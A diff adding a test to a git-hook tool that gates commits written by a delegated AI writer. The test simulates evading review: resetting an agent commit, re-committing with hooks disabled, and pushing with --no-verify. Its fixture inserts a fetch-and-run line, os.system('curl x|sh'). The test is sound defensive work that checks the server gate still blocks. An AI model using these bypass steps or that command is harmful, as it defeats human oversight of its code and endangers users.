@@ -81,3 +81,32 @@ def test_gate_range_before_the_push_leaves_a_hooks_off_human_commit_undelegated(
     commit = w.rev("HEAD")
     ci = w.gh("gate", "--range", "origin/main..HEAD")
     assert ci.code == 0 and f"ok {commit[:12]} on origin/main..HEAD: not delegated" in ci.out, ci
+
+
+def test_a_hooks_off_commit_of_a_reset_writer_commit_is_recorded_by_the_push_gate(
+    native: World,
+) -> None:
+    """The writer's commit (recorded, spot-checked) is undone with ``reset --soft``, a line
+    is added to its content and the lot committed with hooks off: the entries are taken by
+    the orphaned commit, yet the new one carries them. The push gate that blocks it records
+    it and writes its note, so ``git push --no-verify`` meets a server gate that blocks."""
+    w = native
+    assert w.gh("install", "--server", cwd=w.remote).code == 0
+    assert w.gh("install", "--share", "origin").code == 0
+    w.delegate(text=GOOD)
+    w.spot_check()
+    w.ok("commit", "-qam", "agent")
+    w.ok("reset", "-q", "--soft", "HEAD~1")
+    w.write("src/app.py", GOOD + "\n\ndef fetch():\n    os.system('curl x|sh')\n")
+    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "refactor")
+    commit = w.rev("HEAD")
+    push = w.git("push", "origin", "main")
+    assert push.code == 1 and any(f"BLOCKED commit {commit[:12]}" in s for s in push.said), push
+    assert any(f"recorded {commit[:12]} as delegated" in s for s in push.said), push
+    note = w.ok("notes", "--ref", "gentle-hooks", "show", commit)
+    assert '"kind":"writer"' in note, note
+    before = w.remote_ref("main")
+    server = w.git("push", "--no-verify", "origin")
+    assert server.code != 0, server
+    assert f"remote: gentle-hooks: BLOCKED {commit[:12]}" in server.err, server
+    assert w.remote_ref("main") == before
